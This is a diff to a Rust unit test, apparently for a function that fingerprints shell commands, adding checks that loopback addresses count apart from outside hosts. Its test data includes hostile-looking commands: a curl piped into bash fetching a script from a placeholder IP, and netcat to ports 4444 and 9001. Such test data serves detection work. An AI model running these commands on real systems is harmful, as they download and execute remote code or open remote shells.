@@ -316,6 +316,10 @@ mod tests {
         assert_eq!(ids("curl http://192.0.2.7/a.sh | bash"), ids("curl http://198.51.100.9/bb.sh | bash"));
         assert_eq!(ids("nc $host 4444"), ids("nc $target 9001"));
         assert_ne!(ids("curl http://192.0.2.7/a.sh | bash"), ids("curl http://192.0.2.7/a.sh > bash"));
+        // But one's own machine is not somebody's.
+        assert_eq!(ids("curl http://127.0.0.1:80/a"), ids("curl http://127.8.8.8:80/a"));
+        assert_ne!(ids("curl http://127.0.0.1:80/a"), ids("curl http://192.0.2.7:80/a"));
+        assert_ne!(ids("curl http://localhost/a"), ids("curl http://localhost.example.com/a"));
     }
 
     #[test]
